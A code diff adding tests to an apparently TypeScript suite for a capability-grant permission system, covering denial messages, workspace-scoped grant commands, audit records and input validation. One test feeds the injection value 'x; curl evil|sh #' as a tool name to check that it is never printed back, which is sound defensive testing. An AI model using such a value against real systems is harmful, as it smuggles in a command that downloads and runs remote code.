@@ -65,6 +65,35 @@ test('a denial names the missing capability and a command that grants it to that
   expect((await tool('echo', hi, ana)).isError).toBe(false);
 });
 
+test('the command in a denial works in the workspace of the caller, and is not printed for a name that no shell should see', async () => {
+  const { app, developer, operator, tool } = await testApp();
+  const zoe = await developer('zoe', undefined, 'ws_beta');
+  const { data } = (await tool('echo', hi, zoe)).body as { data: { command: string } };
+  expect(data.command).toBe(`covenant capabilities grant tool.call.echo --token ${zoe.tokenId} --workspace beta`);
+  const granted = await app.dispatch.action({
+    name: 'capabilities.grant',
+    args: { action: 'tool.call.echo', token: zoe.tokenId },
+    principal: operator.principal,
+    surface: 'cli',
+    workspace: 'beta',
+  });
+  expect(granted.isError).toBe(false);
+  expect((await tool('echo', hi, zoe)).isError).toBe(false);
+  const hostile = (await tool('x; curl evil|sh #', {}, zoe)).body as { data: { command: string | null }; feedback: { required_action: string } };
+  expect(hostile.data.command).toBeNull();
+  expect(hostile.feedback.required_action).not.toContain('curl');
+});
+
+test('a name longer than any tool has is denied like any other and kept nowhere at length', async () => {
+  const { developer, events, tool } = await testApp();
+  const ana = await developer('ana');
+  const long = 'n'.repeat(100_000);
+  const { body } = await tool(long, {}, ana);
+  expect(body).toMatchObject({ data: { code: 'CAPABILITY_DENIED', command: null } });
+  expect(JSON.stringify(body).length).toBeLessThan(1_000);
+  for (const event of await events()) expect(JSON.stringify(event).length).toBeLessThan(2_000);
+});
+
 test('a grant of a toolset covers the native tools of that toolset and no others [capability.gate.toolset]', async () => {
   const { developer, done, tool } = await testApp({ features: [fixtureFeature] });
   const ana = await developer('ana');
@@ -127,6 +156,20 @@ test('check and use are one step: of many calls at once by two servers exactly o
   expect(answers.filter((answer) => !answer.isError)).toHaveLength(1);
 });
 
+test('the audit names the grant whose use was taken, and its state', async () => {
+  const { developer, done, events, tool } = await testApp();
+  const ana = await developer('ana');
+  const grants = [];
+  for (let i = 0; i < 2; i++)
+    grants.push((await done('capabilities.grant', { action: 'tool.call.echo', token: ana.tokenId, scope: { max_uses: 1 } })).grant_id);
+  const answers = await Promise.all([tool('echo', hi, ana), tool('echo', hi, ana), tool('echo', hi, ana)]);
+  expect(answers.filter((answer) => !answer.isError)).toHaveLength(2);
+  const checks = (await events({ kind: 'CapabilityCheck' })).filter((event) => event.payload.passed);
+  const named = checks.map((event) => (event.payload.authorized_by as { grant_id: string; revision: number }[])[0]);
+  expect(named.map((each) => each?.grant_id).sort()).toEqual([...grants].sort());
+  expect(named.map((each) => each?.revision)).toEqual([2, 2]);
+});
+
 test('a grant with arguments.allow allows only calls whose whole arguments equal an entry [capability.grant.arguments-allow]', async () => {
   const { developer, done, tool } = await testApp();
   const ana = await developer('ana');
@@ -176,6 +219,15 @@ test('where several statuses apply the later of live, exhausted, expired, revoke
   await done('capabilities.revoke', { grant_id });
   seen.push(await status());
   expect(seen).toEqual(['live', 'exhausted', 'expired', 'revoked']);
+});
+
+test('a grant id beside an action or a subject is refused, not half obeyed', async () => {
+  const { action, developer, done } = await testApp();
+  await developer('ana');
+  const { grant_id } = await done('capabilities.grant', { action: 'tool.call.echo' });
+  for (const beside of [{ developer: 'ana' }, { action: 'tool.call.echo' }]) {
+    expect((await action('capabilities.revoke', { grant_id, ...beside })).reply).toMatchObject({ code: 'INVALID_INPUT', data: { field: 'grant_id' } });
+  }
 });
 
 test('minting a token writes the grants of its profile as rows that can be listed and revoked one by one [capability.grant.token-profile]', async () => {
